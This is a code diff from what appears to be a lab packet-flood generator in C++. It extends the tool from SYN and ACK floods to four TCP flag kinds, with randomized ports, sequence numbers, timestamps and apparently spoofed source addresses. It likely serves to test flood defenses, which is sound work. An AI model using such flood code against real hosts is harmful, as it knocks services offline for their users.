@@ -7,8 +7,10 @@
 namespace synward::lab {
 namespace {
 
-constexpr std::uint8_t kSyn = 0x02;
-constexpr std::uint8_t kAck = 0x10;
+constexpr std::uint8_t flags_of(Kind kind) {
+  constexpr std::array<std::uint8_t, 4> flags{0x02, 0x10, 0x12, 0x14};
+  return flags.at(static_cast<std::size_t>(kind));
+}
 // As Linux sends them: MSS 1460, SACK permitted, timestamps, window scale 7.
 constexpr std::array<std::uint8_t, 20> kSynOptions = {2, 4, 0x05, 0xb4, 4, 2, 8, 10, 0, 0,
                                                       0, 0, 0,    0,    0, 0, 1, 3,  3, 7};
@@ -82,7 +84,7 @@ void FrameMaker::write_tcp() {
   std::uint8_t* tcp = &template_[tcp_];
   put16(tcp + 2, settings_.target.port);
   tcp[12] = static_cast<std::uint8_t>((length_ - tcp_) / 4 << 4);
-  tcp[13] = settings_.kind == Kind::syn ? kSyn : kAck;
+  tcp[13] = flags_of(settings_.kind);
   put16(tcp + 14, 64240);
   if (settings_.kind == Kind::syn)
     std::ranges::copy(kSynOptions, tcp + 20);
@@ -122,7 +124,7 @@ void FrameMaker::refresh(Frame& frame) {
   put16(tcp, 1024 + static_cast<std::uint32_t>(numbers % 64000));
   put32(tcp + 4, static_cast<std::uint32_t>(numbers >> 32));
   const std::uint64_t more = random();
-  if (settings_.kind == Kind::ack) put32(tcp + 8, static_cast<std::uint32_t>(more));
+  if (settings_.kind != Kind::syn) put32(tcp + 8, static_cast<std::uint32_t>(more));
   const std::size_t timestamp = settings_.kind == Kind::syn ? kSynTimestamp : kAckTimestamp;
   put32(tcp + 20 + timestamp, static_cast<std::uint32_t>(more >> 32));
 
@@ -145,7 +147,7 @@ flood_state FrameMaker::state() const {
   std::copy_n(template_.begin(), length_, state.frame);
   state.random = state_ | 1;
   state.is_ipv6 = settings_.target.is_ipv6 ? 1 : 0;
-  state.is_ack = settings_.kind == Kind::ack ? 1 : 0;
+  state.is_ack = settings_.kind != Kind::syn ? 1 : 0;
   for (unsigned bit = 0; bit < settings_.sources.bits; ++bit) {
     auto* mask = reinterpret_cast<std::uint8_t*>(state.source_mask);
     mask[bit / 8] = static_cast<std::uint8_t>(mask[bit / 8] | 0x80U >> bit % 8);
